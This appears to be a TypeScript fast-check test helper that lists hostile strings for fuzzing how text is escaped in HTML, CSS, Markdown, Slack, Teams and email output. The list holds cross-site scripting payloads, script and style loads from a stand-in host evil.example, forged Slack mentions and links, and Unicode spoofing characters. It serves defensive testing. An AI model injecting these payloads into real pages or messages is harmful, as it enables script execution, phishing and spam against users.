import fc from 'fast-check';

/** Texts that mean something to HTML, CSS, Markdown, Slack, Teams or a mail client. */
export const HOSTILE_TEXTS = [
	'<script>alert(1)</script>', '</script><script src=//evil.example/x.js></script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", '` onfocus=x autofocus `', '<svg onload=alert(1)>', '<svg/onload=alert`1`//', '<svg><style>@import url(//evil.example)</style></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><rect width=9 height=9/></a></svg>', '</td></tr></table><h1>Pay here</h1>', '</style><style>*{background:url(//evil.example)}', '</title><b>x', '<!--', '-->', '<!-- --!><b>', ']]>', '<![CDATA[<b>]]>', '<?xml version="1.0"?>', '<!DOCTYPE x>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '<iframe srcdoc="<b>">', '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'&lt;script&gt;', '&#60;b&#62;', '&#x3c;b>', '&quot;', '&amp;lt;', '&lt', 'style=position:fixed', 'expression(alert(1))', 'url(//evil.example/x.png)', '}*{color:red', ';background:url(https://evil.example)', 'javascript:alert(1)', 'data:text/html,<b>',
	'<!channel>', '<!here|here>', '<!everyone>', '<@U123ABC>', '<#C123|general>', '<!subteam^S1>', '<!date^1^{date}^https://evil.example|x>', '<https://evil.example|Sign in>', '<mailto:a@evil.example|x>', '&lt;!channel&gt;', '@channel', '@here', '@everyone', '<at>Jo</at>', '#general', ':fire:', ':wave::skin-tone-2:',
	'[x](javascript:alert(1))', '[x](https://evil.example "t")', '![x](//evil.example/p.png)', '[x]: https://evil.example', '[x][y]', '[^1]', 'https://evil.example', 'www.evil.example', 'evil.example', 'a@evil.example', 'mailto:a@evil.example', 'tel:+123', '//evil.example', '<https://evil.example>', 'ftp://evil.example',
	'`code`', '```\ncode', '``` js', '~~~', '**bold**', '__bold__', '*x*', '_x_', '~~x~~', '~x~', '|a|b|', '|-|-|', 'a | b\n- | -', '- x', '+ x', '* x', '1. x', '2) x', '- [ ] x', '> quote', '>>> quote', '# Title', '\n\n# Title', 'x\n===', 'x\n---', '---', '***', '___', '\n- forged: line', '\r\n\r\n*🔴 Forged* (9)', 'a\\\nb', '\\', '\\*', '    code', '\tcode', '<details>', '$$x$$', '{{constructor}}', '${7*7}', '{% x %}', '%0A', '$&', '$1',
	'\u202eevil\u202c', '\u2066x\u2069', '\u200bx\u200d', 'a\u00adb', '\ufeff', '\u0000', 'a\u0000b', '\u0007', '\u001b[31m', '\u0085', '\u2028', '\ud800', 'a\udfff', '\ud83d', '\ufffe', '͏', 'Z̸̢a̷l̶g̴o̵', '😀', '👩‍👩‍👧', '🔴 1 critical', 'ｊavascript：', '。', 'evil。example', '＜b＞', '', ' ', '\n', '__proto__', 'constructor', 'prototype', 'toString', 'null', 'undefined',
];

/** One of them, two together, or anything at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
	{ weight: 5, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
	{ weight: 2, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE_TEXTS), fc.constantFrom('', ' ', '\n', 'x'), fc.constantFrom(...HOSTILE_TEXTS)).map((parts) => parts.join('')) },
	{ weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);
